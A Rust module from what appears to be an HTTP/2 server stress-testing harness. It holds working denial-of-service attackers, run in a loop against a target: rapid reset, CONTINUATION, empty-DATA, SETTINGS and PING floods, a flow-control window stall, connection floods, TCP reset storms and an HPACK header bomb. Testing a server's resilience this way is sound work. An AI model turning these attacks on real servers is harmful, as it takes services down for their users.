//! Attackers that do as much as they can: without them, only the server's good days would be measured.
//!
//! One task is one attacker: it attacks on one connection until the server ends it, notes the end, and comes back.

use std::{io, net::SocketAddr, time::Duration};

use tokio::{
    io::AsyncWriteExt as _,
    net::{
        TcpStream,
        tcp::{ReadHalf, WriteHalf},
    },
    time::{Instant, sleep, timeout},
};

use super::{
    fleet::{Kind, connect, describe},
    http2::{
        ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, Ending, HEADERS, INITIAL_WINDOW, Notable, PING,
        RST_STREAM, SETTINGS, frame, post_echo, preface,
    },
    tally::Tally,
};

/// Frames that go out in one write.
const BURST: u32 = 64;

/// Body of each request that gets no window for its response: all of them together fit into the first connection window.
const STALLED_BYTES: usize = 500;

/// Before an attacker who was thrown out comes back.
const PAUSE: Duration = Duration::from_millis(20);

/// How long a flooder of connections holds on before it looks again.
const HOLD: Duration = Duration::from_millis(100);

/// Without an answer for so long, an attack is given up and begun again: the server takes it and does not mind.
const UNHINDERED: Duration = Duration::from_secs(3);

/// How long a thrown-out attacker still listens for the reason.
const REASON_MAX: Duration = Duration::from_secs(1);

/// Attacks for as long as the process lives.
#[expect(clippy::infinite_loop, reason = "it ends with its process")]
pub(super) async fn go_on(kind: Kind, target: SocketAddr, tally: &Tally) {
    tally.attached();
    loop {
        let end = match connect(target).await {
            Ok(stream) => attack(kind, stream).await,
            Err(error) => format!("not connected: {}", describe(&error)),
        };
        tally.ended(end);
        // A storm is one because it does not pause.
        if kind == Kind::ResetStorm {
            tokio::task::yield_now().await;
        } else {
            sleep(PAUSE).await;
        }
    }
}

async fn attack(kind: Kind, stream: TcpStream) -> String {
    match kind {
        Kind::ResetStorm => reset(&stream),
        Kind::ConnectionFlood => hold(stream).await,
        _ => flood(kind, stream).await,
    }
}

/// With no time to linger, closing sends RST.
fn reset(stream: &TcpStream) -> String {
    match socket2::SockRef::from(stream).set_linger(Some(Duration::ZERO)) {
        Ok(()) => "reset by the attacker".to_owned(),
        Err(error) => describe(&error),
    }
}

async fn hold(stream: TcpStream) -> String {
    let mut ending = [0; 512];
    loop {
        sleep(HOLD).await;
        match stream.try_read(&mut ending) {
            Ok(0) => return "closed".to_owned(),
            Ok(len) => {
                let text = String::from_utf8_lossy(&ending[..len]);
                let status = text.split(' ').nth(1).unwrap_or_default();
                return format!("answered {status}");
            }
            Err(error) if error.kind() == io::ErrorKind::WouldBlock => {}
            Err(error) => return describe(&error),
        }
    }
}

/// Writes bursts of frames until the server ends the connection.
async fn flood(kind: Kind, mut stream: TcpStream) -> String {
    let (mut reader, mut writer) = stream.split();
    let mut ending = Ending::default();
    let end = {
        let mut listen = std::pin::pin!(listen(&mut reader, &mut ending));
        tokio::select! {
            end = &mut listen => end,
            written = write(kind, &mut writer) => match written {
                Ok(()) => "not hindered".to_owned(),
                // The reason may be on its way.
                Err(error) => {
                    timeout(REASON_MAX, listen).await.unwrap_or_else(|_elapsed| describe(&error))
                }
            },
        }
    };
    ending.describe(&end)
}

/// Takes in what the server says until it ends the connection. That it resets a stream or answers one is nothing to an
/// attacker: each is one of many.
async fn listen(reader: &mut ReadHalf<'_>, ending: &mut Ending) -> String {
    loop {
        match ending.read_frame(reader).await {
            Ok(Some(Notable::Reset | Notable::Ping(_) | Notable::Nothing)) => {}
            Ok(None) => return "closed".to_owned(),
            Err(error) => return describe(&error),
        }
    }
}

/// Attacks until the connection fails, or for as long as the server may take to notice.
async fn write(kind: Kind, writer: &mut WriteHalf<'_>) -> io::Result<()> {
    let no_window: &[(u16, u32)] = if kind == Kind::WindowStall { &[(INITIAL_WINDOW, 0)] } else { &[] };
    writer.write_all(&preface(no_window)).await?;
    writer.write_all(&frame(SETTINGS, ACK, 0, &[])).await?;
    let began = Instant::now();
    let mut number = 0;
    while began.elapsed() < UNHINDERED {
        let bytes = burst(kind, number);
        number += 1;
        if bytes.is_empty() {
            sleep(HOLD).await;
        } else {
            writer.write_all(&bytes).await?;
            tokio::task::yield_now().await;
        }
    }
    Ok(())
}

/// The frames of burst `number`; none where the attack consists in doing nothing more.
fn burst(kind: Kind, number: u32) -> Vec<u8> {
    let first_stream = number * BURST * 2 + 1;
    let streams = (0..BURST).map(|place| first_stream + 2 * place);
    match kind {
        Kind::RapidReset => streams
            .flat_map(|id| {
                let open = frame(HEADERS, END_HEADERS | END_STREAM, id, &post_echo());
                [open, frame(RST_STREAM, 0, id, &8_u32.to_be_bytes())].concat()
            })
            .collect(),
        Kind::ContinuationFlood => {
            let mut bytes = if number == 0 { frame(HEADERS, 0, 1, &post_echo()) } else { Vec::new() };
            let fields = endless_fields();
            bytes.extend((0..BURST).flat_map(|_| frame(CONTINUATION, 0, 1, &fields)));
            bytes
        }
        Kind::EmptyDataFlood => {
            let mut bytes =
                if number == 0 { frame(HEADERS, END_HEADERS, 1, &post_echo()) } else { Vec::new() };
            bytes.extend((0..BURST).flat_map(|_| frame(DATA, 0, 1, &[])));
            bytes
        }
        Kind::SettingsFlood => (0..BURST).flat_map(|_| frame(SETTINGS, 0, 0, &[])).collect(),
        Kind::PingFlood => (0..BURST).flat_map(|_| frame(PING, 0, 0, &[0; 8])).collect(),
        Kind::WindowStall if number < 2 => streams
            .flat_map(|id| {
                let open = frame(HEADERS, END_HEADERS, id, &post_echo());
                [open, frame(DATA, END_STREAM, id, &[b'x'; STALLED_BYTES])].concat()
            })
            .collect(),
        Kind::HeaderBomb => streams.flat_map(bomb).collect(),
        _ => Vec::new(),
    }
}

/// Small fields that are never indexed, about 1 KiB of them.
fn endless_fields() -> Vec<u8> {
    // Literal with a new name, never indexed: 0x10, name, value.
    [0x10, 3, b'x', b'-', b'a', 2, b'b', b'c'].repeat(128)
}

/// A head that puts one field of 4 KiB into the table and then names it 4,000 times: 16 MiB in 8 KiB.
fn bomb(id: u32) -> Vec<u8> {
    let mut block = post_echo();
    // Literal with incremental indexing and a new name; the value's length, 4,000, in HPACK's variable form.
    block.extend([0x40, 1, b'b', 0x7f, 0xa1, 0x1e]);
    block.extend([b'x'; 4_000]);
    // The newest entry of the dynamic table has index 62.
    block.extend([0xbe; 4_000]);
    frame(HEADERS, END_HEADERS | END_STREAM, id, &block)
}
